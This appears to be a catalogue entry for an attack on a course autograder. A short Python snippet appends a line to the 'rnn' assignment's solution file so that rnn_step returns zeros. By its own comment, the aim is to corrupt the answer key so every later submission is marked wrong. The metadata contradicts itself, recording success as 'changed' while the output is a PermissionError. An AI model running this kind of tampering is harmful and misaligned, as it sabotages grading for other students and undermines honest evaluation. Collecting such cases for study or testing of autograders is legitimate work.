# assignment: rnn
# does: changes the answer key, so that everybody after it is marked wrong
# success: changed
# says: PermissionError

with open({COURSE} + "/solutions/rnn/rnn.py", "a") as file:
    file.write("rnn_step = lambda x, h, W, b: 0 * h\n")
